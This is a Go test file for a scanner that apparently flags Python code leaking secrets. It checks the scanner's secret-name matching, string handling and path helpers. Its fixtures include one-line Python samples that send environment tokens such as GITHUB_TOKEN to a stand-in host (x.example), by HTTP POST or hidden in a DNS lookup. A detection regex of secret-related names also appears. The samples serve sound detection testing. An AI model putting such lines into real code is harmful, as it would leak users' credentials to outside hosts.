package scan

import (
	"bytes"
	"context"
	"os/exec"
	"strings"
	"testing"
)

// pyHelperCheck runs pyscan.py's definitions (not its main) in the test interpreter
// and then check, Python code that prints "ok" or what differs. The modules check
// compares with are imported before the script installs its sandbox.
func pyHelperCheck(t *testing.T, check string) {
	t.Helper()
	py := testPython(t)
	body, ok := strings.CutSuffix(strings.TrimRight(pyScript, "\n"), "\nmain()")
	if !ok {
		t.Fatal("pyscan.py no longer ends with main()")
	}
	harness := "import sys, json, re, random\ng = {'__name__': 'pyscan'}\n" +
		"exec(compile(sys.stdin.read(), 'pyscan.py', 'exec'), g)\n" + check
	cmd := exec.CommandContext(context.Background(), py, "-I", "-S", "-c", harness)
	cmd.Stdin = strings.NewReader(body + "\n")
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("%v: %s", err, errb.String())
	}
	if got := strings.TrimSpace(out.String()); got != "ok" {
		t.Fatalf("differs from the regular expression it replaces:\n%s", got)
	}
}

// TestPyscanSecretEnvIsTheRegex: the re-free test of environment names takes exactly
// the names re.search("(KEY|TOKEN|...)", name, re.I) took, over every character
// re.I could fold and random names built from the tricky ones.
func TestPyscanSecretEnvIsTheRegex(t *testing.T) {
	pyHelperCheck(t, `
rx = re.compile(r"(KEY|TOKEN|SECRET|PASSW|CREDENTIAL|AUTH|SESSION|COOKIE|PRIVATE|AWS_)", re.I)
fold = g["_FOLD_UPPER"]
every = "".join(chr(c) for c in range(sys.maxunicode + 1) if not 0xD800 <= c < 0xE000)
letters = set("".join(g["SECRET_ENV_WORDS"]))
folded = {}
for c, u in zip(every, every.translate(fold)):
    if u in letters:
        folded.setdefault(u, set()).add(c)
bad = []
for letter in sorted(letters):
    by_re = set(re.findall(re.escape(letter), every, re.I))
    by_fold = folded.get(letter, set())
    if by_re != by_fold:
        bad.append("%s: re %r, fold %r" % (letter, sorted(by_re), sorted(by_fold)))
rnd = random.Random(18)
alphabet = "KEYTOKENSECRTPASWDIUHOVkeytosa_\u212a\u017f\u0130\u0131\u00df1-"
for _ in range(20000):
    name = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 9)))
    if g["secret_env"](name) != bool(rx.search(name)):
        bad.append(repr(name))
for name in ("GITHUB_TOKEN", "acme_key", "\u212aEY", "ACCESS_TO\u212aEN", "PATH", "HOME", "MONKEY", "aws_region"):
    if g["secret_env"](name) != bool(rx.search(name)):
        bad.append(repr(name))
print("\n".join(bad[:20]) or "ok")
`)
}

// TestPyscanFmtStarIsTheRegex: the re-free '%' placeholder folding gives what
// re.sub(r"%[-#0 +]*\d*(\.\d+)?[sdrxXoifeEgGc]", "*", t) gave, Unicode digits included.
func TestPyscanFmtStarIsTheRegex(t *testing.T) {
	pyHelperCheck(t, `
rx = re.compile(r"%[-#0 +]*\d*(\.\d+)?[sdrxXoifeEgGc]")
rnd = random.Random(18)
alphabet = "%%%-#0 +.59\u0663\u00b2sdrxXoifeEgGcqz\n"
bad = []
for _ in range(50000):
    s = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 12)))
    if g["fmt_star"](s) != rx.sub("*", s):
        bad.append(repr(s))
for s in ("", "%", "%%", "%s", "a %s b %d", "%-08.3f", "%.f", "%5.", "%\u0663d", "%\u00b2d", "100%", "%(x)s"):
    if g["fmt_star"](s) != rx.sub("*", s):
        bad.append(repr(s))
print("\n".join(bad[:20]) or "ok")
`)
}

// TestPyscanJSONIsJSON: the hand-written JSON of the answer reads back as json.dumps's
// would: control characters, quotes, backslashes, non-ASCII, lone and paired surrogates.
func TestPyscanJSONIsJSON(t *testing.T) {
	pyHelperCheck(t, `
texts = ["".join(chr(c) for c in range(128)), "caf\u00e9 \u2028 \U0001f600", "\ud800", "a\udfffb", "\ud83d\ude00", "\\\"", ""]
obj = {"findings": [{"id": "x", "line": 3, "chain": ["a", t], "neg": -5, "ok": True, "no": False, "none": None}
                    for t in texts], "data": [{"cols": sorted({(1, 2), (0, 9)})}], "notes": [], "strings": texts}
mine = json.loads(g["utf8_json"](g["to_json"](obj)).decode("utf-8"))
theirs = json.loads(json.dumps(obj))
try:
    g["to_json"]({"b": b"x"})
    bad = "bytes written"
except TypeError:
    bad = ""
print("ok" if mine == theirs and not bad else "%s\n%r\n%r" % (bad, mine, theirs))
`)
}

// TestPythonWireNames: what travels to the analysis besides source (declared names,
// file names that are not UTF-8, names re.I folds) arrives intact: the analysis runs
// and judges as before.
func TestPythonWireNames(t *testing.T) {
	py := testPython(t)
	cases := []struct {
		name  string
		files map[string]string
		env   []string
		chain bool
	}{
		{"kelvin sign folds to K", map[string]string{
			"p.py": "import os, requests\nrequests.post('https://x.example', data=os.environ['ACME_\u212aEY'])\n",
		}, nil, true},
		{"declared name with a newline is one name", map[string]string{
			"p.py": "import os, requests\nrequests.post('https://x.example', data=os.environ['B_TOKEN'])\n",
		}, []string{"A_TOKEN\nB_TOKEN"}, true},
		{"declared names exempt their reads", map[string]string{
			"p.py": "import os, requests\nrequests.post('https://x.example', data=os.environ['B_TOKEN'] + os.environ['C\u00e9_KEY'])\n",
		}, []string{"A_TOKEN", "B_TOKEN", "C\u00e9_KEY", ""}, false},
		{"file name not UTF-8", map[string]string{
			"n\xffet.py": "import os, socket\nsocket.gethostbyname(os.environ['GITHUB_TOKEN'] + '.x.example')\n",
		}, nil, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := Scan(context.Background(), writeTree(t, c.files), Options{Python: py, RequiresEnv: c.env})
			if err != nil {
				t.Fatal(err)
			}
			if f := findingOf(res, idPyFailed); f != nil {
				t.Fatalf("analysis failed: %s", f.Description)
			}
			var chain []string
			for _, f := range res.Findings {
				if len(f.Chain) > 0 {
					chain = f.Chain
				}
			}
			if (chain != nil) != c.chain {
				t.Fatalf("chain %q, want one: %v\n%s", chain, c.chain, res.Report())
			}
		})
	}
}

// TestPyscanPathsArePosixpath: the script's own join, dirname and basename give what
// posixpath's give for the str paths the analysis folds.
func TestPyscanPathsArePosixpath(t *testing.T) {
	pyHelperCheck(t, `
import posixpath as real
mine = g["posixpath"]
rnd = random.Random(18)
parts = ["", "/", "//", "a", "a/", "/a", "~", "~/.aws", "b//c", "*", "..", "./x/", "///"]
bad = []
for _ in range(20000):
    args = [rnd.choice(parts) + rnd.choice(parts) for _ in range(rnd.randint(1, 4))]
    if mine.join(*args) != real.join(*args):
        bad.append("join%r" % (args,))
    p = "".join(args)
    if mine.dirname(p) != real.dirname(p) or mine.basename(p) != real.basename(p):
        bad.append("dirname/basename %r" % p)
print("\n".join(bad[:20]) or "ok")
`)
}
